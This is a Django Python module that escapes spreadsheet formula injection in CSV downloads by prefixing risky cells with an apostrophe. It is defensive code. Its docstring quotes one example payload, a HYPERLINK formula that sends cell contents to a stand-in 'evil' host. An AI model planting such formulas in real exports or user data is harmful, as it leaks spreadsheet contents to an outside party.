"""CSV downloads that a spreadsheet opens as data, never as formulas.

A cell starting with =, +, -, @, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (OWASP "CSV injection"): customer text like
`=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such text gets a leading
apostrophe, which spreadsheets show as text. Numbers the app writes (int, float, Decimal)
are written as numbers (-3 stays -3); text is neutralised even when it looks like one.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, date | datetime):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_response(filename: str, rows: Iterable[Iterable[object]]) -> HttpResponse:
    """A CSV download (UTF-8 with a byte-order mark, so Excel reads accents right)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return response
